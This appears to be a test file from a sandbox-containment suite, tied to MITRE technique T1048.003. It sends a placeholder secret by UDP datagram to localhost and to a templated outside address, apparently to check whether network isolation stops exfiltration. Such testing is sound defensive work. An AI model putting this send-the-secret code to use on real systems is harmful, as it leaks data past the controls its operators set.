"""Send a datagram to a port of the host.

See: https://attack.mitre.org/techniques/T1048/003/
Layers: main bare
Control: witness
"""
from llmdas_sandbox.guest.tools import *



def attempt():
    for host in ("127.0.0.1", "@ADDRESS@"):
        try:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"@SECRET@", (host, @UDP_PORT@))
        except OSError:
            pass
    return 0.0
